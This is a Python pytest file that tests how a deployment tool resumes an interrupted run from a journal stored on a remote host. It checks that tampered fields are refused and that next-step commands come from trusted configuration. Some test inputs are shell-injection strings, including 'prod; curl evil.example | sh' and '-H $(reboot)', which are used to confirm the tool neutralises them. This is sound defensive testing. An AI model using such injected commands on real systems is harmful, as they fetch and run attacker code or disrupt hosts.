"""What a resume believes of the journal that lies on a host."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tasks.errors import Refused
from tasks.journal.coding import Entry, as_json, read
from tasks.run.begun import plan_again
from tasks.run.decide import Plan, decide
from tasks.run.lock import Lock
from tasks.run.record import begin
from tests.unit.builders import found, prod, request, well

SET = prod(schema_status="alembic current")
FACTS = found(SET, well())
MINOR = decide(request("minor-upgrade", SET), FACTS)
LOCK = Lock("0123abcd", "alice@desk", "2026-11-26T05:00:00+00:00", "minor-upgrade blockerbugs-1.1.0-1.el7")


def journal(**changes: Any) -> list[Entry]:
    """The first line of the run, but for these keys."""
    raw = {"time": "2026-11-26T05:00:00.000+00:00", "run": LOCK.run, "event": "begin"}
    raw |= as_json(begin(MINOR, "alice@desk")) | changes
    return read([json.dumps(raw)])


def again(copy: list[Entry], own: list[Entry] | None = None, lock: Lock = LOCK) -> tuple[Plan, list[str]]:
    return plan_again(SET, lock, copy, own or [], FACTS)


def why_not(copy: list[Entry], own: list[Entry] | None = None) -> str:
    with pytest.raises(Refused) as error:
        again(copy, own)
    assert "\n  or: fab prod abort" in f"\n  or: {error.value.next_line}"
    return error.value.problems[0].removeprefix("prod: run 0123abcd cannot be resumed: ")


def test_the_plan_is_the_one_that_was_begun_on_this_machine_or_another() -> None:
    for own in ([], journal()):
        plan, warnings = again(journal(), own)
        assert (plan.phases, plan.target, plan.request.asked_as, warnings) == (MINOR.phases, MINOR.target, "prod", [])


def test_s13_the_host_on_which_the_copy_lies_cannot_change_what_this_machine_wrote() -> None:
    copy = journal(target="blockerbugs-1.2.0-1.el7", unverified="x")
    assert why_not(copy, journal()) == (
        "the journal copy on blockerbugs01 differs from the local journal in: target, unverified"
    )


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        (
            {"target": "blockerbugs-1.2.0-1.el7"},
            "its lock on blockerbugs01 is for minor-upgrade blockerbugs-1.1",
        ),
        ({"procedure": "major-upgrade"}, "its lock on blockerbugs01 is for minor-upgrade"),
        ({"target": "kittens-1.1.0-1.el7"}, "its journal on blockerbugs01 has kittens-1.1.0-1.el7 for a build of"),
        ({"target": "x; reboot"}, "its journal on blockerbugs01 has x; reboot for a build of blockerbugs"),
        ({"set": "stg"}, "its journal on blockerbugs01 is of stg: minor-upgrade"),
        ({"procedure": "reboot"}, "its journal on blockerbugs01 is of prod: reboot"),
        ({"order": ["evil.example"]}, "hosts.yml does not have evil.example any more"),
        ({"run": "deadbeef"}, "its journal cannot be read"),
        ({"hosts_yml": 5}, "its journal cannot be read"),
        ({"steps": []}, "the steps in its journal are not those that this version runs"),
        ({"steps": [], "version": "0.9"}, "version 0.9 of this tool started the run; this version would run different"),
    ],
)
def test_s13_another_build_set_or_plan_than_the_lock_and_hosts_yml_have_is_refused(
    changes: dict[str, Any], why: str
) -> None:
    assert why in why_not(journal(**changes))


@pytest.mark.parametrize("evil", ["prod; curl evil.example | sh", "-H $(reboot)", "stg", "-H nobody"])
def test_s13_the_words_to_type_next_are_hosts_ymls(evil: str) -> None:
    assert again(journal(asked_as=evil))[0].request.asked_as == "prod"


def test_one_hosts_upgrade_is_typed_for_that_host_again() -> None:
    assert again(journal(asked_as="-H blockerbugs02"))[0].request.asked_as == "-H blockerbugs02"


def test_a_run_that_version_0_1_began_is_refused_with_that_version_where_the_steps_are_others() -> None:
    with pytest.raises(Refused) as error:
        again(journal(version="", steps=[["download", "x"]]))
    assert "version 0.1 of this tool started the run" in error.value.problems[0]
    assert error.value.next_line == "git checkout d6d6b6f && fab prod resume\n  or: fab prod abort"
